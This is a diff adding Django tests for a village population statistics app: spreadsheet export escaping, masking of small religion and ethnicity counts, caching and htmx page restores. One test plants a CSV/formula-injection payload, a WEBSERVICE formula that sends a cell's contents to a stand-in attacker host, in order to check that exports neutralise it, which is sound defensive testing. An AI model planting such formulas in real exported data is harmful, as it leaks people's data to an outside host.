@@ -7,6 +7,7 @@ from openpyxl import load_workbook
 
 from balai.akun.models import Peran
 from balai.penduduk import kode
+from balai.penduduk.tests.factories import make_penduduk
 
 pytestmark = pytest.mark.django_db
 
@@ -176,3 +177,56 @@ def test_region_dashboards_show_key_figures(
     admin = make_user(Peran.ADMIN_KABUPATEN)
     body = client_for(None, admin).get("/dasbor/").content.decode()
     assert "<strong>15</strong> jiwa" in body.split('id="penduduk-wilayah"')[1]
+
+
+JAHAT = '=WEBSERVICE("http://jahat.example/?"&C5)'
+
+
+def test_exports_keep_formula_like_labels_as_text(desa_a, warga_a, operator_a, client_for):
+    with scopes_disabled():
+        dusun = warga_a[0].dusun
+        dusun.nama = JAHAT
+        dusun.save()
+        make_penduduk(desa_a, suku="+SUKU " + JAHAT, tanggal_lahir=warga_a[0].tanggal_lahir)
+    client = client_for(desa_a, operator_a)
+    r = client.get("/admin-desa/statistik/?d=dusun&format=xlsx")
+    ws = load_workbook(io.BytesIO(r.content)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value == JAHAT]
+    assert cells and all(c.data_type == "s" for c in cells)
+    r = client.get("/admin-desa/statistik/?d=dusun&format=csv")
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert ["'" + JAHAT] == [v for row in rows for v in row if JAHAT in v]
+    r = client.get("/admin-desa/statistik/?d=suku&format=csv")
+    labels = [row[1] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) if len(row) > 1]
+    assert "'+SUKU " + JAHAT in labels
+
+
+@pytest.mark.parametrize("dim", ["agama", "suku"])
+def test_public_agama_and_suku_mask_small_counts(desa_a, warga_a, operator_a, client_for, dim):
+    with scopes_disabled():
+        make_penduduk(desa_a, suku="BATAK", tanggal_lahir=warga_a[0].tanggal_lahir)
+    label = "KRISTEN" if dim == "agama" else "BATAK"
+    body = client_for(desa_a).get(f"/statistik/?d={dim}").content.decode()
+    row = body[body.index(f">{label}<") :].split("</tr>")[0]
+    assert "&lt; 5" in row and ">2<" not in row and ">1<" not in row
+    assert "sensitif" in body
+    # The back office keeps the exact figures.
+    r = client_for(desa_a, operator_a).get(f"/admin-desa/statistik/?d={dim}")
+    assert next(b for b in r.context["tabel"].baris if b.label == label).sel_jumlah in (1, 2)
+
+
+def test_public_page_is_cached_per_dimension_only(desa_a, warga_a, client_for, django_assert_max_num_queries):
+    client = client_for(desa_a)
+    agama = client.get("/statistik/?d=agama")
+    assert b"KRISTEN" not in client.get("/statistik/?d=umur").content
+    with django_assert_max_num_queries(3):  # tenant lookup only
+        again = client.get("/statistik/?d=agama&x=1")
+    assert again["ETag"] == agama["ETag"]
+
+
+def test_htmx_history_restore_gets_the_whole_page(desa_a, warga_a, operator_a, client_for):
+    client = client_for(desa_a, operator_a)
+    part = client.get("/admin-desa/statistik/?d=agama", HTTP_HX_REQUEST="true").content
+    assert b"<html" not in part
+    full = client.get("/admin-desa/statistik/?d=agama", HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
+    assert b"<html" in full.content
